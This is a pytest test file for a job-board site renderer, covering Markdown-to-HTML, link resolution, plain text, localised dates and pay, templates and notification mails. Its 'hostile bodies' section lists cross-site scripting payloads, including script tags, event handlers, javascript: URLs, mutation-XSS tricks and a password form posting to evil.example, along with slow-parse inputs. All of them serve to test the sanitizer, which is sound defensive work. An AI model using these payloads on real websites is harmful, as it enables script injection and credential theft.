"""What the renderer makes of bodies, and what it gives to templates."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from syndicate.core.model import Contact, Pay, Place, Scalar, When
from syndicate.core.pay import read_pay
from syndicate.errors import UsageError
from syndicate.facts import application, contact_rest, tel
from syndicate.locales import Words, bound
from syndicate.render import SiteRenderer, shipped_templates
from tests.builders import NOW, SITE, a_change, a_posting, an_offer

ALLOWED = {"http", "https", "mailto", "tel"}


class Seen(HTMLParser):
    """Every element and attribute of some HTML, as a browser sees them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data

    def names(self) -> set[str]:
        return {tag for tag, _ in self.tags}

    def urls(self) -> list[str]:
        found = [a.get(k) or "" for _, a in self.tags for k in ("href", "src", "poster", "cite") if k in a]
        return found + [u.split()[0] for _, a in self.tags for u in (a.get("srcset") or "").split(",") if u.strip()]


def html(body: str, url: str = "https://example.org/careers/dyer/", **site: object) -> str:
    renderer = SiteRenderer(replace(SITE, url="https://example.org/careers", **site))  # type: ignore[arg-type] # a test's own keys
    return renderer.html(an_offer("dyer", body=body, url=url))


def text(body: str) -> str:
    return SiteRenderer(SITE).text(an_offer(body=body))


# ---------------------------------------------------------------- Markdown


def test_tables_lists_strikethrough_task_lists_and_bare_links_are_markdown() -> None:
    made = html("| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n1. one\n\n- [x] done\n- [ ] not\n\nSee www.example.org.")
    assert "<table>" in made
    assert '<td align="right"><del>2</del></td>' in made
    assert "<ol>" in made
    assert "<li>☑ done</li>" in made
    assert "<li>☐ not</li>" in made
    assert '<a href="http://www.example.org"' in made


def test_footnotes_lead_to_each_other_on_the_postings_page() -> None:
    made = html("Pay[^1].\n\n[^1]: Gross.")
    assert 'href="https://example.org/careers/dyer/#text-fn-1"' in made
    assert 'id="text-fn-1"' in made


def test_the_highest_heading_of_a_body_is_an_h2_and_the_others_keep_their_distance() -> None:
    assert html("# A\n\n## B\n\n# C") == "<h2>A</h2>\n<h3>B</h3>\n<h2>C</h2>"
    assert html("### A\n\n#### B") == "<h2>A</h2>\n<h3>B</h3>"
    assert html("## A") == "<h2>A</h2>"
    assert html("# A\n\n###### B") == "<h2>A</h2>\n<h6>B</h6>"


def test_a_body_of_indented_html_is_not_taken_for_code() -> None:
    made = html("<div>\n\n    <p>You <b>weave</b>.</p>\n\n      <ul>\n          <li>wool</li>\n      </ul>\n</div>")
    assert "<pre>" not in made
    assert "<li>wool</li>" in made


def test_markdown_that_begins_with_a_tag_is_markdown() -> None:
    assert "<strong>wool</strong>" in html("<p align='center'>Hello</p>\n\n**wool**")


def test_an_empty_body_gives_no_html() -> None:
    assert html(" \n ") == ""
    assert text("") == ""


# ---------------------------------------------------------------- addresses


def test_addresses_are_resolved_against_the_postings_page_and_the_host() -> None:
    made = html(
        "[form](/apply/) [team](../culture) ![plan](plan.png) [dir](sub/x)\n\n"
        '<img src="/img/a.jpg" srcset="/img/a-2x.jpg 2x, b.jpg 640w" alt="a"> [cdn](//cdn.example.com/x)'
    )
    for url in (
        'href="https://example.org/apply/"',
        'href="https://example.org/careers/culture"',
        'src="https://example.org/careers/dyer/plan.png"',
        'href="https://example.org/careers/dyer/sub/x"',
        'srcset="https://example.org/img/a-2x.jpg 2x, https://example.org/careers/dyer/b.jpg 640w"',
        'href="https://cdn.example.com/x"',
    ):
        assert url in made


def test_mail_and_telephone_addresses_stay_as_they_are() -> None:
    made = html("[write](mailto:a@example.org?subject=Dyer) <tel:+33100000000> <https://example.com/?a=1&b=2>")
    assert 'href="mailto:a@example.org?subject=Dyer"' in made
    assert 'href="tel:+33100000000"' in made
    assert 'href="https://example.com/?a=1&amp;b=2"' in made


def test_links_within_the_text_find_headings_by_given_id_or_by_their_words() -> None:
    made = html("[pay](#pay) [team](#the-team)\n\n## Pay and more {#pay}\n\n## The team!\n\n## The team!")
    assert '<a href="https://example.org/careers/dyer/#text-pay"' in made
    assert '<h2 id="text-pay">Pay and more</h2>' in made
    assert '<a href="https://example.org/careers/dyer/#text-the-team"' in made
    assert '<h2 id="text-the-team">The team!</h2>' in made
    assert '<h2 id="text-the-team-1">The team!</h2>' in made


def test_an_attribute_list_after_a_heading_is_not_shown() -> None:
    assert "{" not in html("## Pay {: .no_toc }\n\n### Start {#start .wide}")


def test_braces_in_a_heading_that_are_no_attributes_stay() -> None:
    assert "The {curly} one" in html("## The {curly} one\n\n[x](#y)")


def test_on_a_site_with_pages_of_its_own_links_within_the_text_keep_their_ids() -> None:
    made = html("[pay](#pay)", "https://www.example.org/jobs/dyer/", pages=False, posting_url="x")
    assert 'href="https://www.example.org/jobs/dyer/#pay"' in made


def test_an_address_that_is_none_is_dropped_and_its_words_stay() -> None:
    assert Seen(html("[x](http://[::1) <a href='//[bad'>y</a>")).words.strip().endswith("y")


def test_a_heading_of_nothing_in_a_table_is_a_plain_cell() -> None:
    made = html("|   | Mon |\n| - | --: |\n| am | 4 |\n\n<table><tr><th title='a>b'> </th><th>x</th></tr></table>")
    assert made.count("<td></td>") == 2
    assert made.count("<th>") + made.count("<th ") == 2


# ---------------------------------------------------------------- hostile bodies

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<style>@import '//evil.example'</style>",
    "<p style='position:fixed;inset:0' class='top'>x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details ontoggle=alert(1) open>x</details>",
    "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x' alt=x>",
    "<video poster=javascript:alert(1)><source src=javascript:alert(1)></video>",
    "<h2 id='main' onclick=alert(1)>x</h2>",
    "```html\n<script>alert(1)</script>\n```",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
)
SAFE_ATTRIBUTES = set(
    """href src srcset sizes alt title lang dir id rel class align colspan rowspan scope start type reversed value cite
    datetime open controls poster width height media span hreflang aria-label""".split()
)


def is_harmless(made: str) -> bool:
    seen = Seen(made)
    banned = {"script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "svg", "math"}
    attributes = {name for _, given in seen.tags for name in given}
    schemes = {url.partition(":")[0].lower() for url in seen.urls() if url}
    ids = {given.get("id") or "text-" for _, given in seen.tags}
    return (
        not seen.names() & banned
        and attributes <= SAFE_ATTRIBUTES
        and schemes <= ALLOWED
        and all(id.startswith("text-") for id in ids)
        and all(re.fullmatch(r"language-\S+", given["class"] or "") for _, given in seen.tags if "class" in given)
    )


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_in_a_body_is_executed(body: str) -> None:
    assert is_harmless(html(body))
    assert is_harmless(html(f"Before {body} after.\n\nNext."))


@given(st.lists(st.sampled_from((*HOSTILE, "\n\n", " ", "<p>", "</p>", "<!--", "-->", "<![CDATA[", "]]>")), max_size=6))
def test_no_mixture_of_hostile_bodies_is_executed(parts: list[str]) -> None:
    assert is_harmless(RENDERER.html(an_offer(body="".join(parts))))


RENDERER = SiteRenderer(SITE)


def test_a_tag_that_an_author_only_speaks_of_does_not_swallow_the_rest() -> None:
    made = html("You put a <script> tag and a <title> into <Textarea>.\n\nThen <!-- you **rest**.\n\nEnd.")
    seen = Seen(made)
    assert "a <script> tag and a <title> into <Textarea>" in seen.words
    assert "<strong>rest</strong>" in made
    assert "End." in seen.words


def test_comments_and_scripts_are_dropped_with_what_is_in_them() -> None:
    assert html("a<!-- secret -->b\n\n<script>secret</script>\n\n<style>secret</style>").count("secret") == 0


@pytest.mark.parametrize(
    "body",
    [
        "<script " * 20_000 + "<!-- " * 20_000,
        "<div>" * 50_000,
        ">" * 50_000 + "x",
        "<h1>" * 20_000 + "[x](#y)",
        "<a href=x>" * 20_000,
        "[" * 50_000,
        "*a " * 50_000,
        "<p>x</p>\n" * 20_000,
    ],
    ids=lambda body: body[:10],
)
def test_a_body_made_to_take_for_ever_does_not(body: str) -> None:
    started = time.monotonic()
    offer = an_offer(body=body, text="")
    assert is_harmless(RENDERER.html(offer))
    RENDERER.text(offer)
    assert time.monotonic() - started < 10, "some ten times what it takes"


def test_a_body_too_deep_to_be_one_is_shown_as_it_is_written() -> None:
    assert html(">" * 3000 + " deep").startswith("<p>&gt;&gt;")


def test_the_language_of_code_is_kept_and_no_other_class() -> None:
    made = html('```python\nx = 1\n```\n\n<code class="hero language-c++ x">y</code> <b class="top">z</b>')
    assert '<code class="language-python">' in made
    assert '<code class="language-c++">' in made
    assert "hero" not in made
    assert "top" not in made


def test_links_say_noopener_and_pictures_without_words_are_marked_as_such() -> None:
    assert 'rel="noopener"' in html("[x](https://example.com)")
    assert html('<img src="https://example.com/a.png" title="x alt=">').startswith('<img alt="" src=')
    assert html("![words](https://example.com/a.png)").count("alt=") == 1


# ---------------------------------------------------------------- plain text


def test_text_keeps_lists_numbers_quotes_and_code() -> None:
    made = text("1. one\n2. two\n   - in\n\n> said\n\n```\n  a\n\n  b\n```\n\n---\n\nEnd.")
    assert made == "1. one\n2. two\n   - in\n\n> said\n\n  a\n\n  b\n\n* * *\n\nEnd."


def test_text_has_links_with_their_addresses_unless_they_say_them() -> None:
    made = text("[form](/apply/) <https://example.com/> [write](mailto:a@example.org) a@example.com www.example.net")
    assert made.split(" ", 2)[:2] == ["form", "(https://jobs.example.org/apply/)"]
    assert made.endswith(" https://example.com/ write (a@example.org) a@example.com www.example.net")


def test_text_decodes_entities_once_and_joins_broken_lines() -> None:
    assert text("R&D &amp;\nC < D  \nnext") == "R&D & C < D\nnext"
    assert text("`&amp;`") == "&amp;"


def test_text_sets_tables_row_by_row_and_pictures_as_their_words() -> None:
    assert text("| a | b |\n|---|---|\n| 1 | 2 |\n\n![plan](x.png)") == "a | b\n1 | 2\n\n[plan]"


def test_text_sets_terms_and_footnotes() -> None:
    assert text("<dl><dt>Pay</dt><dd>Good</dd><dt>Start</dt><dd>Soon</dd></dl>") == "Pay\n    Good\n\nStart\n    Soon"
    assert text("Pay[^1].\n\n[^1]: Gross.") == "Pay[1].\n\n1. Gross."


def test_a_summary_is_the_first_paragraph_cut_between_words() -> None:
    offer = an_offer(body="# Title\n\nYou keep *many* boats & ships afloat, all year.\n\n## Next\n\nMore.")
    assert RENDERER.summary(offer) == "You keep many boats & ships afloat, all year."
    assert RENDERER.summary(offer, 20) == "You keep many boats…"
    assert RENDERER.summary(an_offer(body="- a\n- b")) == "a b"


# ---------------------------------------------------------------- words


def test_dates_are_said_in_the_readers_language() -> None:
    assert Words("en").day("2026-03-01") == "1 March 2026"
    assert Words("fr").day("2026-03-01") == "1er mars 2026"
    assert Words("fr").day("2026-11-11") == "11 novembre 2026"
    assert Words("en-US").day("2026-03-01") == "March 1, 2026"
    assert Words("fr").day("2026-03") == "Mars 2026"
    assert Words("fr").day("dès que possible") == "dès que possible"
    assert Words("en").day("2026-02-31") == "2026-02-31"


def test_an_instant_is_a_day_of_the_sites_time_zone() -> None:
    late = datetime(2026, 2, 28, 23, 30, tzinfo=UTC)
    assert Words("en", "Europe/Paris").day(late) == "1 March 2026"
    assert Words("en", "UTC").day(late) == "28 February 2026"


def test_an_hour_is_said_only_where_the_author_named_one() -> None:
    instant = datetime(2026, 2, 20, 16, 30, tzinfo=UTC)
    words = Words("fr", "Europe/Paris")
    assert words.moment(When("2026-02-20T17:30:00+01:00", instant)) == "20 février 2026 à 17:30"
    assert words.moment(When("2026-02-20", instant)) == "20 février 2026"
    assert words.moment(When("2026-02-20T00:00:00", instant)) == "20 février 2026"


def test_money_is_said_with_its_unit_and_not_where_a_figure_or_currency_is_missing() -> None:
    assert Words("en").money(Pay("x", 45000, 55000, "EUR", "YEAR")) == "€45,000 – €55,000 a year"
    assert Words("fr").money(Pay("x", 31.5, 31.5, "EUR", "HOUR")).replace("\xa0", " ") == "31,50 € par heure"
    assert Words("en").money(Pay("x", 52000, 52000)) == ""
    assert Words("en").money(Pay("competitive")) == ""


def test_a_salary_is_the_authors_words_and_bare_figures_are_explained() -> None:
    assert Words("en").salary(Pay("45-55 k€ brut/an", 45000, 55000, "EUR", "YEAR")) == "45-55 k€ brut/an"
    assert Words("en").salary(Pay("52000", 52000, 52000, "EUR", "YEAR")) == "€52,000 a year (52000)"
    assert Words("en").salary(Pay("52000", 52000, 52000)) == "52000"


def test_a_salary_given_in_fields_is_written_in_the_language_of_the_page() -> None:
    fields = Scalar("39000", 1), Scalar("46000", 1), Scalar("EUR", 1), Scalar("year", 1)
    pay = read_pay(dict(zip(("min", "max", "currency", "unit"), fields, strict=True)))
    assert pay is not None
    assert Words("en").salary(pay) == "€39,000 – €46,000 a year"
    assert Words("fr").salary(pay) == "39\u202f000\xa0€ – 46\u202f000\xa0€ par an"
    assert Words("fr").salary(Pay("39000 – 46000 EUR / sprint")) == "39000 – 46000 EUR / sprint"


@pytest.mark.parametrize(
    ("types", "said", "made"),
    [
        (("TEMPORARY",), "CDD", "CDD (fixed-term)"),
        (("FULL_TIME",), "FULL_TIME", "Full-time"),
        (("FULL_TIME",), "full time", "Full-time"),
        (("FULL_TIME",), None, "Full-time"),
        (("FULL_TIME",), "CDI", "CDI"),
        (("OTHER",), "project-based", "project-based"),
        ((), "project-based", "project-based"),
        (("TEMPORARY", "CONTRACTOR"), "CDD ou freelance", "CDD ou freelance (fixed-term, contractor)"),
    ],
)
def test_a_contract_is_the_authors_words_and_what_they_mean(
    types: tuple[str, ...], said: str | None, made: str
) -> None:
    shown = Words("en").contract(a_posting(employment_types=types, employment_text=said))
    assert shown == made


def test_in_french_no_line_begins_with_what_belongs_to_the_one_before() -> None:
    title = "Qui vient\u00a0? «\u00a0Le Vent\u00a0»\u00a0: 2\u00a0150\u00a0€, le 3 mars 2026 à 12 h"
    assert bound(title.replace("\u00a0", " "), "fr-CA") == title
    assert bound("Who ? « 2 150 € »", "en") == "Who ? « 2 150 € »"
    renderer = SiteRenderer(SITE)
    for language, title in (("fr", "Qui\u00a0?"), ("en", "Qui ?")):
        change = a_change(an_offer(title="Qui ?", language=language))
        for name in ("digest.html", "email.html"):
            assert f">{title}</a>" in renderer.template(name, language, changes=[change])


def test_places_are_the_authors_words_else_composed() -> None:
    words = Words("fr")
    assert words.places(a_posting()) == ("Lyon, France",)
    composed = Place("12 rue X", "Lyon", None, "69001", "FR")
    assert words.places(a_posting(places=(composed,))) == ("12 rue X, 69001 Lyon, France",)
    assert words.places(a_posting(places=(), location_text="au bord de l’eau")) == ("au bord de l’eau",)


# ---------------------------------------------------------------- how to apply


def test_an_application_address_is_taken_apart_and_only_harmless_ones_are_links() -> None:
    assert application(a_posting(apply_url="mailto:a%2Bb@example.org?subject=x")).mail == "a+b@example.org"
    assert application(a_posting(apply_url="https://www.example.com/x")).host == "example.com"
    assert application(a_posting(apply_url="javascript:alert(1)")).url is None
    assert application(a_posting(apply_url="http://[::1")).url is None


def test_a_telephone_number_becomes_an_address_that_can_be_called() -> None:
    assert tel("+33 (0)1 23 45") == "tel:+3312345"
    assert tel("01 23.45") == "tel:012345"


def test_what_an_author_adds_to_a_contact_is_shown() -> None:
    assert contact_rest(Contact("Ann", "a@example.org", None, "Ann, a@example.org")) == ""
    assert contact_rest(Contact(None, "a@example.org", None, "a@example.org or at the desk")) != ""


# ---------------------------------------------------------------- templates


def test_a_file_of_the_users_replaces_the_shipped_one_and_can_extend_it(tmp_path: Path) -> None:
    (tmp_path / "foot.html").write_text("<footer>Ours</footer>")
    (tmp_path / "404.html").write_text('{% extends "shipped/404.html" %}{% block title %}Gone{% endblock %}')
    made = SiteRenderer(SITE, [tmp_path]).template("404.html", page_url="", description="", near=[])
    assert "<footer>Ours</footer>" in made
    assert "<title>Gone</title>" in made


@pytest.mark.parametrize("name", sorted(path.name for path in shipped_templates().iterdir()))
def test_every_template_can_be_replaced(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text("replaced {{ site.title }}")
    assert SiteRenderer(SITE, [tmp_path]).template(name) == "replaced Jobs at Example"


def test_a_mistake_in_a_template_is_named_with_file_and_line(tmp_path: Path) -> None:
    renderer = SiteRenderer(SITE, [tmp_path])
    (tmp_path / "a.html").write_text("one\n{{ nothing.here }}\n")
    (tmp_path / "b.html").write_text("one\n\n{% if %}\n")
    with pytest.raises(UsageError, match=r"a\.html:2: .*nothing"):
        renderer.template("a.html")
    with pytest.raises(UsageError, match=r"b\.html:3: "):
        renderer.template("b.html")
    with pytest.raises(UsageError, match=r"no template c\.html"):
        renderer.template("c.html")


def test_html_is_escaped_and_text_is_not(tmp_path: Path) -> None:
    for name in ("a.html", "a.xml", "a.txt"):
        (tmp_path / name).write_text("{{ x }}")
    renderer = SiteRenderer(SITE, [tmp_path])
    assert renderer.template("a.html", x="<b> & 'q'") == "&lt;b&gt; &amp; &#39;q&#39;"
    assert renderer.template("a.xml", x="<b>") == "&lt;b&gt;"
    assert renderer.template("a.txt", x="<b>") == "<b>"


def test_the_fingerprint_changes_with_site_and_templates_and_with_nothing_else(tmp_path: Path) -> None:
    first = SiteRenderer(SITE, [tmp_path]).fingerprint()
    assert SiteRenderer(SITE, [tmp_path]).fingerprint() == first
    assert SiteRenderer(replace(SITE, title="x"), [tmp_path]).fingerprint() != first
    (tmp_path / "foot.html").write_text("x")
    changed = SiteRenderer(SITE, [tmp_path]).fingerprint()
    assert changed != first
    (tmp_path / "foot.html").write_text("y")
    assert SiteRenderer(SITE, [tmp_path]).fingerprint() not in (first, changed)


def test_results_are_made_once_and_not_mixed_up() -> None:
    renderer = SiteRenderer(SITE)
    one, other = an_offer(body="one"), an_offer(body="other")
    assert renderer.html(one) is renderer.html(one)
    assert renderer.html(other) == "<p>other</p>"
    assert renderer.job_posting(one) is renderer.job_posting(one)
    assert renderer.job_posting(replace(one, status="closed")) is None


def test_a_renderer_that_has_rendered_nothing_has_imported_none_of_the_heavy_libraries() -> None:
    program = (
        "import sys; from syndicate.render import SiteRenderer; from tests.builders import SITE;"
        "SiteRenderer(SITE).fingerprint();"
        "sys.exit(','.join({'jinja2','babel','comrak','nh3','markupsafe'} & set(sys.modules)) or 0)"
    )
    root = Path(__file__).parents[1]
    done = subprocess.run([sys.executable, "-c", program], cwd=root, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")


# ---------------------------------------------------------------- messages


@pytest.mark.parametrize("name", ["email", "digest"])
@pytest.mark.parametrize("language", ["en", "fr"])
@pytest.mark.parametrize("event", ["opened", "closed", "reopened", "updated", "renamed"])
def test_mails_say_the_title_the_address_and_what_happened(name: str, language: str, event: str) -> None:
    closed = event == "closed"
    offer = an_offer(status="closed" if closed else "open", title='<3 & "boats"', body="You <b>row</b>.")
    change = a_change(offer, event)
    renderer = SiteRenderer(SITE)
    plain = renderer.template(f"{name}.txt", language, changes=[change], unsubscribe="https://example.org/u")
    rich = renderer.template(f"{name}.html", language, changes=[change], unsubscribe="https://example.org/u")
    assert Words(language).said(event, '<3 & "boats"') in plain
    assert change.url in plain
    assert "https://example.org/u" in plain
    assert "\n\n\n" not in plain
    assert "&lt;3 &amp; &#34;boats&#34;" in rich
    assert f'href="{change.url}"' in rich
    assert (Words(language).why_closed(offer) in plain) is closed
    assert "<b>row</b>" in rich or name == "digest" or closed
    assert "<script" not in rich


def test_a_digest_counts_and_orders_its_changes() -> None:
    changes = [a_change(an_offer("a", title="Aa", status="closed"), "closed"), a_change(an_offer("b", title="Bb"))]
    plain, rich = (SiteRenderer(SITE).template(f"digest.{kind}", changes=changes) for kind in ("txt", "html"))
    assert "1 new offer, 1 offer closed" in plain
    assert plain.index("Bb") < plain.index("Aa")
    assert "Bb · Aa</div>" in rich  # what a mail program shows beside the subject
    assert rich.index("<a href=\"https://jobs.example.org/b/") < rich.index("<a href=\"https://jobs.example.org/a/")


def test_a_digest_draws_one_rule_between_two_of_its_parts() -> None:
    changes = [a_change(an_offer(id)) for id in "abc"]
    rules = re.findall(r"border-(top|bottom): 1px", SiteRenderer(SITE).template("digest.html", changes=changes))
    assert rules == ["bottom", "top", "top", "top", "top"]  # below the site's name, above each offer, above the end


def test_a_mail_about_a_closing_says_whose_offer_it_was() -> None:
    change = a_change(an_offer(status="closed"), "closed")
    for kind in ("txt", "html"):
        assert "Example · Lyon, France · CDI" in SiteRenderer(SITE).template(f"email.{kind}", changes=[change])


def test_a_message_names_three_of_many_places() -> None:
    towns = [Place(locality=town, country="FR", text=town) for town in ("Brest", "Rouen", "Lille", "Metz", "Sète")]
    change = a_change(an_offer(places=tuple(towns)))
    for name in ("digest.txt", "digest.html", "message.txt"):
        assert "Example · Brest / Rouen / Lille +2 · CDI" in SiteRenderer(SITE).template(name, changes=[change])
    assert "Locations: Brest\n    Rouen\n" in SiteRenderer(SITE).template("email.txt", changes=[change])


def test_a_mail_says_an_address_once_that_the_author_wrote_into_the_words_on_applying() -> None:
    asked = an_offer(apply_text="A letter to jobs@example.org, please.", body="Row.")
    plain = SiteRenderer(SITE).template("email.txt", changes=[a_change(asked)])
    assert plain.count("jobs@example.org") == 1
    assert SiteRenderer(SITE).template("email.txt", changes=[a_change(an_offer(body="Row."))]).count("jobs@") == 1


def test_kinds_of_contract_are_said_in_one_row_of_words() -> None:
    kinds = a_posting(employment_types=("CONTRACTOR", "TEMPORARY"), employment_text=None)
    assert Words("en").contract(kinds) == "Contractor, fixed-term"
    assert Words("fr").contract(kinds) == "Indépendant, durée déterminée"


def test_the_console_message_names_deadline_and_address() -> None:
    offer = an_offer(valid_through=When("2026-03-20", datetime(2026, 3, 20, 22, 59, 59, tzinfo=UTC)))
    made = SiteRenderer(SITE).template("message.txt", "fr", changes=[a_change(offer)])
    assert made == (
        "Nouvelle offre\u00a0: Boat builder\n  Example · Lyon, France · CDI\n"
        "  Date limite\u00a0: 20 mars 2026\n  https://jobs.example.org/boat-builder/\n"
    )


def test_a_closing_says_why_and_since_when() -> None:
    words = Words("en", "Europe/Paris")
    filled = an_offer(status="closed", reason="filled", closed_at=datetime(2026, 3, 5, 23, 30, tzinfo=UTC))
    assert words.why_closed(filled) == "The position has been filled. Closed on 6 March 2026."
    end = When("2026-03-01", datetime(2026, 3, 1, 22, 59, 59, tzinfo=UTC))
    expired = an_offer(status="closed", reason="expired", valid_through=end, closed_at=NOW)
    assert words.why_closed(expired) == "The closing date has passed. Closed on 1 March 2026."


def test_the_shipped_templates_are_found_in_a_checkout() -> None:
    assert {"base.html", "posting.html", "message.txt"} <= set(os.listdir(shipped_templates()))
